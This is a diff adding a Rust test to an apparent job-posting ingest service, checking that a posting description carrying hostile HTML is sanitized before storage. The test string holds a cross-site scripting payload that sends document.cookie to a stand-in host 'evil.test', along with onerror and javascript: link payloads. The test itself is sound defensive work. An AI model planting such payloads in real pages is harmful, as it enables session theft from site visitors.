@@ -81,3 +81,43 @@ async fn every_ingest_event_gives_the_expected_batch_response_and_store() {
         assert_eq!(state.counts.new, 7, "{file}");
     }
 }
+
+#[tokio::test]
+async fn a_posting_whose_description_carries_a_script_is_stored_sanitized() {
+    let aws = moto().await;
+    let client = aws_sdk_dynamodb::Client::new(&aws);
+    let store = DynamoStore::new(client.clone(), fresh_table(&client).await);
+    let config = IngestConfig::default();
+    let ingest = Ingest {
+        postings: &store,
+        states: &store,
+        counts: &store,
+        config: &config,
+    };
+    // The recorded batch's first message, its first posting's description replaced by a
+    // script (as a hostile board, or a message altered on the way, would send it).
+    let (_, json) = events("ingest")
+        .into_iter()
+        .find(|(file, _)| file == "ingest-postings-batch.json")
+        .unwrap();
+    let mut event: serde_json::Value = serde_json::from_str(&json).unwrap();
+    let records = event["Records"].as_array_mut().unwrap();
+    records.truncate(1);
+    let mut body: serde_json::Value =
+        serde_json::from_str(records[0]["body"].as_str().unwrap()).unwrap();
+    body["postings"][0]["record"]["description_html"] = serde_json::Value::from(
+        "<p>Build our APIs.</p><script>fetch('https://evil.test/?c='+document.cookie)</script>\
+         <img src=x onerror=alert(1)><a href=\"javascript:alert(1)\">apply</a>",
+    );
+    let id = body["postings"][0]["id"].as_str().unwrap().to_owned();
+    records[0]["body"] = serde_json::Value::from(body.to_string());
+    let event: SqsEvent = serde_json::from_value(event).unwrap();
+    let response = handle(&ingest, event, now()).await;
+    assert!(response.batch_item_failures.is_empty());
+    let stored = store.get_many(std::slice::from_ref(&id)).await.unwrap();
+    let html = &stored[0].posting.description_html;
+    assert!(html.contains("Build our APIs."), "{html}");
+    for dangerous in ["<script", "onerror", "javascript:", "evil.test"] {
+        assert!(!html.contains(dangerous), "{dangerous} in {html}");
+    }
+}
